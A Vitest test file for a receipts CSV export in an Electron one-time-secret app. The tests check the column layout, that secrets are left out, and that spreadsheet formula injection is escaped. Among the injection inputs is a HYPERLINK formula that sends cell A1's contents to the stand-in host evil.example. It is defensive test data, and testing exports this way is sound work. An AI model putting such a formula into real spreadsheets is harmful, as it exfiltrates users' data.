import { describe, expect, it } from 'vitest';
import { Sensitive } from '../../../../electron/core/base/sensitive.ts';
import { receiptsCsv } from '../../../../electron/core/receipts/receipts-csv.ts';
import { receiptOf } from '../../../support/fakes/receipt-fixture.ts';

const linesOf = (...receipts: Parameters<typeof receiptsCsv>[0]) => receiptsCsv(receipts).split('\r\n');
describe('exported receipts', () => {
  it('have a line each, in columns with names', () => {
    const receipt = receiptOf('a', {
      madeAt: Date.UTC(2026, 10, 23, 12),
      expiresAt: Date.UTC(2026, 10, 24, 12),
      madeFrom: 'terminal',
      madeWith: { server: 'https://eu.onetimesecret.com', username: 'anna@example.com' },
      state: 'revealed',
      stateSince: Date.UTC(2026, 10, 23, 13),
      lifetimeAsked: 86_400,
      lifetimeGranted: 3_600,
      mailedTo: ['bo***@e***.com', 'cy***@e***.com'],
      note: 'for Bo',
    });
    expect(linesOf(receipt, receiptOf('b'))).toEqual([
      '\ufeffmade,state,state since,expires,checked,server,account,link host,made from,generated,bytes,"lifetime asked, seconds","lifetime granted, seconds",passphrase,e-mail requested to,note',
      '2026-11-23T12:00:00.000Z,revealed,2026-11-23T13:00:00.000Z,2026-11-24T12:00:00.000Z,,EU,anna@example.com,eu.onetimesecret.com,terminal,no,5,86400,3600,no,bo***@e***.com cy***@e***.com,for Bo',
      expect.stringMatching(/,EU,,eu\.onetimesecret\.com,window,no,5,/),
      '',
    ]);
  });

  it('have no link, key or passphrase, and no address as it was typed', () => {
    const csv = receiptsCsv([
      receiptOf('a', {
        link: new Sensitive('canary-link'),
        receiptKey: new Sensitive('canary-key'),
        passphrase: new Sensitive('canary-passphrase'),
        recipient: 'canary@example.com',
      }),
    ]);
    expect(csv).not.toContain('canary');
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', '"\'\r=1"'],
    ['  =1', "'  =1"],
    ['\u200b=1', "'\u200b=1"],
    ['＝1', "'＝1"],
    ['=HYPERLINK("https://evil.example?"&A1)', '"\'=HYPERLINK(""https://evil.example?""&A1)"'],
  ])('have no cell that a spreadsheet takes for a formula: %j', (note, cell) => {
    const csv = receiptsCsv([receiptOf('a', { note })]);
    expect(csv.slice(csv.lastIndexOf(',no,,') + 5)).toBe(`${cell}\r\n`);
  });

  it('keep commas, quotes and line breaks of a note in its cell', () => {
    expect(receiptsCsv([receiptOf('a', { note: 'a "b", c\nd' })])).toMatch(/,"a ""b"", c\nd"\r\n$/);
    expect(receiptsCsv([receiptOf('a', { note: 'b-c = d' })])).toMatch(/,b-c = d\r\n$/);
  });
});
